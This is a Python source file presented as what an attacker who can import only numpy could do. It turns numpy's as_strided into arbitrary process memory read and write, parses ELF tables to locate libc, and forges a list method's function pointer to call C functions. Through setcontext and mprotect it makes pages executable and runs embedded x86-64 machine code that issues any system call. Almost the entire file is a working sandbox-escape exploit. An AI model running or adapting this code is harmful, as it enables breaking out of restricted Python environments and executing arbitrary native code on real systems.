"""Native code with nothing but numpy: memory is read and written through `as_strided`, which believes any stride.

What an attacker would do who may import numpy and nothing else. From the address of a built-in method (`id`) to the
loader's tables, to libc, to `setcontext`, which loads every register from memory; from there to pages made executable
and machine code in them, which makes any system call. x86-64 with glibc. Also run as a public script, word for word.
"""

import numpy
from numpy.lib.stride_tricks import as_strided

_anchor = numpy.zeros(64, numpy.uint8)
_own = _anchor.__array_interface__["data"][0]


def memory(address, count=1, kind=numpy.uint64):
    """Return a view of any memory of the process, for reading and writing."""
    size = numpy.dtype(kind).itemsize
    return as_strided(_anchor[:size].view(kind), (2, count), (address - _own, size))[1]


def _text(address):
    return bytes(memory(address, 64, numpy.uint8)).partition(b"\0")[0]


class _Module:
    """A loaded ELF object, found from any address within it."""

    def __init__(self, within):
        base = within & ~4095
        while int(memory(base)[0]) & 0xFFFFFFFF != 0x464C457F:
            base -= 4096
        headers = base + int(memory(base + 32)[0])
        kinds = {}
        for place in range(int(memory(base + 56, 1, numpy.uint16)[0])):
            header = memory(headers + 56 * place, 7)
            kinds.setdefault(int(header[0]) & 0xFFFFFFFF, int(header[2]))
        self.bias = base - (kinds[1] & ~4095)  # PT_LOAD, the first
        tags, place = {}, self.bias + kinds[2]  # PT_DYNAMIC
        while int(memory(place)[0]):
            tag, value = (int(part) for part in memory(place, 2))
            tags[tag] = value if value >= self.bias or tag in (2, 8) else value + self.bias
            place += 16
        self.names, self.symbols = tags[5], tags[6]
        self.relocations = [(tags[table], tags[size]) for table, size in ((23, 2), (7, 8)) if table in tags]

    def imported(self, wanted):
        """Return where a function lies that this object has called in another."""
        for table, size in self.relocations:
            for place in range(table, table + size, 24):
                offset, info = (int(part) for part in memory(place, 2))
                if info & 0xFFFFFFFF in (6, 7):
                    name = int(memory(self.symbols + 24 * (info >> 32), 1, numpy.uint32)[0])
                    if _text(self.names + name) == wanted:
                        return int(memory(self.bias + offset)[0])
        raise LookupError(wanted)

    def exported(self, wanted):
        """Return where a function of this object lies."""
        for place in range(self.symbols, self.names, 24):
            if _text(self.names + int(memory(place, 1, numpy.uint32)[0])) == wanted:
                return self.bias + int(memory(place + 8)[0])
        raise LookupError(wanted)


def _call(function, argument):
    """Call a C function that takes one pointer and returns 0, by a forged method of a list."""
    method = [].clear
    forged = numpy.array([0, function, 4, 0], numpy.uint64)  # PyMethodDef: name, function, METH_NOARGS
    forged[0] = forged.__array_interface__["data"][0] + 24
    view = memory(id(method) + 16, 2)  # PyCFunctionObject: m_ml, m_self
    saved = view.copy()
    view[:] = forged.__array_interface__["data"][0], argument
    try:
        method()
    except SystemError:  # a method that returns no object and raises nothing
        pass
    finally:
        view[:] = saved


# Load the registers from the data page; make the call; write the word for its result to a descriptor; end.
_CODE = (
    b"\x48\x8b\x03\x48\x8b\x7b\x08\x48\x8b\x73\x10\x48\x8b\x53\x18\x4c\x8b\x53\x20\x4c\x8b\x43\x28\x0f\x05"
    b"\x31\xc9\x48\xf7\xd8\x48\x0f\x48\xc1\x48\xc1\xe0\x04\x48\x8d\x74\x03\x40\x48\x8b\x7b\x30\xba\x10\0\0\0"
    b"\xb8\x01\0\0\0\x0f\x05\xb8\xe7\0\0\0\x31\xff\x0f\x05"
)


def system_call(number, arguments, word_fd):
    """Make a system call from machine code of our own. Writes "ok", or the number of the error, and ends the process."""
    method = [].clear
    caller = _Module(int(memory(int(memory(id(method) + 16)[0]) + 8)[0]))
    libc = _Module(caller.imported(b"malloc"))
    pages = numpy.zeros(5 * 4096, numpy.uint8)
    start = (pages.__array_interface__["data"][0] + 4095) & ~4095
    code, data, context, stack = start, start + 4096, start + 8192, start + 15 * 1024
    prologue = b"\x48\xbb" + data.to_bytes(8, "little")  # movabs rbx, data
    memory(code, 10 + len(_CODE), numpy.uint8)[:] = numpy.frombuffer(prologue + _CODE, numpy.uint8)
    strings = data + 3072
    values = []
    for argument in arguments:
        if isinstance(argument, bytes):
            memory(strings, len(argument) + 1, numpy.uint8)[:] = numpy.frombuffer(argument + b"\0", numpy.uint8)
            argument, strings = strings, strings + len(argument) + 1
        values.append(argument)
    memory(data, 7)[:] = [number] + (values + [0] * 5)[:5] + [word_fd]
    for place in range(150):
        word = b"%-16s" % (b"%d" % place if place else b"ok")
        memory(data + 64 + 16 * place, 16, numpy.uint8)[:] = numpy.frombuffer(word, numpy.uint8)
    memory(context, 2)[:] = 1 << 20, id(list)  # for the message of SystemError it is an object: count and type
    _call(libc.exported(b"getcontext"), context)
    registers = memory(context, 64)
    # ucontext_t: rdi, rsi, rdx, rsp, rip. Return from mprotect(code, 4096, READ | WRITE | EXEC) into the code.
    registers[13], registers[14], registers[17], registers[20] = code, 4096, 7, stack
    registers[21] = libc.exported(b"mprotect")
    memory(stack)[0] = code
    _call(libc.exported(b"setcontext"), context)
